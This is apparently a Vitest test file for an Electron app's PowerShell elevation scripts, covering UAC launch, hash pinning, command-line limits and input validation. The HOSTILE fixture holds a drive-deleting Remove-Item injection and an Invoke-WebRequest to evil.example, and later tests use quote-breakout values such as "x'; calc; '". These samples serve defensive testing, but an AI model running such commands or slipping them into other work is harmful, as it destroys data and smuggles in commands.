import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { composeScript } from '../compose-script'
import { encodeCommand } from '../encode'
import { runGates } from '../../dev/powershell-gates/gates'
import { decodeLaunch } from './test-support/launch-test-support'
import {
  CONSTRAINED_LANGUAGE_LAUNCH,
  ELEVATED_ARGUMENTS_PREFIX,
  MAX_COMMAND_LINE,
  MAX_SHELL_EXECUTE_COMMAND_LINE,
  bootstrapScript,
  buildElevationPlan,
  commandLineLength,
  launcherScript,
  payloadScript,
  sha256Hex,
} from './scripts'

// Fixed values for the pinned fixtures. After an intended template change, regenerate with
// `WND_UPDATE_FIXTURES=1 npx vitest run electron/powershell/elevation` and review the diff.
const PIPE = 'wnd-elevate-0123456789abcdef0123456789abcdef'
const NONCE = 'fedcba9876543210fedcba9876543210'
const HASH = sha256Hex('fixture script')
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const BOOTSTRAP_B64 = encodeCommand('BOOTSTRAP')
const FIXTURES = fileURLToPath(new URL('./__fixtures__', import.meta.url))

function expectFixture(name: string, text: string): void {
  const path = join(FIXTURES, name)
  if (process.env['WND_UPDATE_FIXTURES'] === '1') writeFileSync(path, `${text}\n`)
  expect(`${text}\n`).toBe(readFileSync(path, 'utf8'))
}

const HOSTILE = [`'; Remove-Item -Recurse -Force C:\\ ; '`, `"$(Invoke-WebRequest http://evil.example)"`, "`n`r @' here '@", '# 修复 WSL 网络 — 中文说明'].join(
  '\n',
)

const plan = (scriptText: string) => buildElevationPlan({ scriptText, pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 10_000 })

describe('bootstrap and launcher templates', () => {
  it('generates exactly the pinned bootstrap', () => {
    expectFixture('bootstrap.ps1.txt', bootstrapScript({ pipeName: PIPE, nonce: NONCE, payloadSha256: HASH, connectTimeoutMs: 10_000 }))
  })

  it('generates exactly the pinned payload', () => {
    expectFixture('payload.ps1.txt', payloadScript('fixture script'))
  })

  it('makes the launcher refuse in Constrained Language Mode before anything that mode forbids', () => {
    const lines = launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64 }).split('\n')
    const guard = lines.findIndex((line) => line.includes("LanguageMode -ne 'FullLanguage'"))
    const firstDotNet = lines.findIndex((line) => /\[Console\]|New-Object|\[Diagnostics/.test(line))
    expect(guard).toBeGreaterThan(-1)
    expect(guard).toBeLessThan(firstDotNet)
    expect(lines[guard]).toContain(CONSTRAINED_LANGUAGE_LAUNCH)
  })

  it('generates exactly the pinned launcher', () => {
    expectFixture('launcher.ps1.txt', launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64 }))
  })

  it("keeps all three scripts parseable, 5.1-compatible and ASCII (PowerShell's own parser)", () => {
    const { bootstrap, launcher, payload } = plan(HOSTILE)
    const owned = launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64, ownerWindowHandle: '197390' })
    const texts = { bootstrap, launcher, payload, owned }
    for (const text of Object.values(texts)) expect(text).toMatch(/^[\n\x20-\x7e]*$/)
    const items = Object.entries(texts).map(([name, text]) => ({ name: `composed:${name}`, text, role: 'product' as const }))
    // Constrained Language findings are expected here: the elevation scripts need Full Language
    // Mode by nature and are gated as declared so (powershell-gates/collect-composed.ts).
    expect(runGates(items, { clmMode: 'report' }).filter((problem) => problem.blocking)).toEqual([])
  }, 60_000)

  it('keeps the elevated command line well under the ShellExecuteEx limit of 2,048, whatever the script', () => {
    expect(MAX_SHELL_EXECUTE_COMMAND_LINE).toBe(2048)
    for (const built of [plan('x'), plan(`${HOSTILE}\n`.repeat(5000))]) {
      const measured = commandLineLength(POWERSHELL, [ELEVATED_ARGUMENTS_PREFIX + built.bootstrapBase64])
      expect(built.elevatedCommandLineLength).toBe(measured)
      // Was 3,719 with the one-stage bootstrap; the margin covers a longer %SystemRoot%.
      expect(measured).toBeLessThanOrEqual(1810)
    }
  })

  it('refuses to build a plan whose elevated command line would exceed the limit', () => {
    const long = `C:\\${'x'.repeat(300)}\\powershell.exe`
    expect(() => buildElevationPlan({ scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: long, connectTimeoutMs: 10_000 })).toThrow(
      /ShellExecuteEx/,
    )
  })

  it('never puts script content in either command line, only its hash', () => {
    const script = composeScript({ id: 'repair', body: HOSTILE, prelude: '' })
    const built = plan(script.text)
    const everything = [built.bootstrap, built.launcher, built.bootstrapBase64, ...built.launcherArgs].join('\n')
    for (const needle of ['Remove-Item', 'Invoke-WebRequest', '$(', '修复', '中文', 'here', Buffer.from(script.text).toString('base64').slice(0, 40)]) {
      expect(everything).not.toContain(needle)
    }
    // The script travels inside the payload, which the bootstrap pins by SHA-256 (base64).
    expect(built.payload).toContain(Buffer.from(script.text, 'utf8').toString('base64'))
    expect(built.bootstrap).toContain(`-cne'${Buffer.from(sha256Hex(built.payload), 'hex').toString('base64')}'`)
  })

  it('differs between two scripts only in the pinned hash', () => {
    const one = plan('Write-Output 1')
    const a = one.bootstrap.split('\n')
    const b = plan(HOSTILE).bootstrap.split('\n')
    const differing = a.flatMap((line, i) => (line === b[i] ? [] : [line]))
    expect(differing).toHaveLength(1)
    expect(differing[0]).toContain(`-cne'${Buffer.from(sha256Hex(one.payload), 'hex').toString('base64')}'`)
  })

  it('round-trips through the launcher arguments the way Windows decodes them', () => {
    const built = plan(HOSTILE)
    const decoded = decodeLaunch(built.launcherArgs)
    expect(decoded.launcher).toBe(built.launcher)
    expect(decoded.bootstrap).toBe(built.bootstrap)
    expect(decoded).toMatchObject({ pipeName: PIPE, nonce: NONCE, payloadSha256: sha256Hex(built.payload), bootstrapBase64: built.bootstrapBase64 })
    expect(built.launcherArgs.slice(0, 5)).toEqual(['-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-EncodedCommand'])
  })

  it('keeps both command lines far below 32,767 characters, whatever the script size', () => {
    const small = plan('x')
    const huge = plan(`${HOSTILE}\n`.repeat(5000))
    for (const built of [small, huge]) {
      const elevated = commandLineLength(POWERSHELL, [ELEVATED_ARGUMENTS_PREFIX + built.bootstrapBase64])
      const launcher = commandLineLength(POWERSHELL, built.launcherArgs)
      expect(elevated).toBeLessThan(MAX_SHELL_EXECUTE_COMMAND_LINE)
      expect(launcher).toBeLessThan(MAX_COMMAND_LINE / 2)
    }
    expect(commandLineLength(POWERSHELL, huge.launcherArgs)).toBe(commandLineLength(POWERSHELL, small.launcherArgs))
  })

  it('follows the runas recipe and maps NativeErrorCode 1223 to cancelled', () => {
    const { launcher } = plan('x')
    expect(launcher).toContain(`New-Object Diagnostics.ProcessStartInfo '${POWERSHELL}'`)
    expect(launcher).toContain('$psi.UseShellExecute = $true')
    expect(launcher).toContain(`$psi.Verb = 'runas'`)
    expect(launcher).toContain('[Diagnostics.Process]::Start($psi)')
    expect(launcher).toMatch(/NativeErrorCode -eq 1223\) \{\n\s+\$j = '\{"status":"cancelled"\}'/)
    expect(launcher).not.toMatch(/Start-Process/i)
  })

  it('pins PSModulePath first, hashes the received bytes before decoding, and runs only after the check', () => {
    const lines = plan('x').bootstrap.split('\n')
    expect(lines[0]).toBe(`$ErrorActionPreference='Stop'`)
    // Before anything that could autoload a module (stage 1 uses no cmdlet at all).
    expect(lines[1]).toBe('$env:PSModulePath="$PSHOME\\Modules"')
    expect(lines.join('\n')).not.toMatch(/\b[A-Z][a-z]+-[A-Z][A-Za-z]+\b/)
    const hashAt = lines.findIndex((l) => l.includes('ComputeHash($b)'))
    const runAt = lines.findIndex((l) => l.includes('[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString($b))'))
    expect(hashAt).toBeGreaterThan(1)
    expect(lines[hashAt]).toMatch(/-cne'[A-Za-z0-9+/]{43}='\)\{.*exit 3\}$/)
    expect(runAt).toBe(lines.length - 1)
    expect(lines.join('\n')).toContain(`'InOut','None','Identification')`)
    expect(lines.join('\n')).not.toContain('SetOut')
  })

  it('gives the UAC prompt an owner window only when given a decimal handle', () => {
    const plain = launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64 })
    expect(plain).not.toContain('ErrorDialog')
    const owned = launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64, ownerWindowHandle: '9223372036854775807' })
    const lines = owned.split('\n')
    // .NET Framework copies the handle into SHELLEXECUTEINFO.hwnd only when ErrorDialog is true.
    expect(lines).toContain('$psi.ErrorDialog = $true')
    expect(lines).toContain('$psi.ErrorDialogParentHandle = [IntPtr]9223372036854775807')
    expect(lines.indexOf('$psi.ErrorDialogParentHandle = [IntPtr]9223372036854775807')).toBeLessThan(lines.indexOf('  $p = [Diagnostics.Process]::Start($psi)'))
    for (const bad of ['', '0', '012', '-5', '1e3', '0x10', '12 34', '123; calc', '9223372036854775808', '１２３']) {
      expect(() => launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64, ownerWindowHandle: bad })).toThrow(/owner window handle/)
    }
    expect(() =>
      buildElevationPlan({ scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 1000, ownerWindowHandle: 'abc' }),
    ).toThrow(/owner window handle/)
  })

  it('refuses tokens that could break out of their quotes', () => {
    const ok = { scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 1000 }
    expect(() => buildElevationPlan({ ...ok, pipeName: "x'; calc; '" })).toThrow(/pipe name/)
    expect(() => buildElevationPlan({ ...ok, nonce: 'NOT-HEX-NOT-HEX-NOT-HEX' })).toThrow(/nonce/)
    expect(() => buildElevationPlan({ ...ok, powershellPath: "C:\\Win'dows\\powershell.exe" })).toThrow(/path/)
    expect(() => buildElevationPlan({ ...ok, powershellPath: 'C:\\Win\u2019dows\\powershell.exe' })).toThrow(/path/)
    expect(() => buildElevationPlan({ ...ok, powershellPath: 'powershell.exe' })).toThrow(/path/)
    expect(() => buildElevationPlan({ ...ok, connectTimeoutMs: 0 })).toThrow(/timeout/)
  })

  it('hashes UTF-8 bytes (known SHA-256 vector)', () => {
    expect(sha256Hex('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad')
  })
})
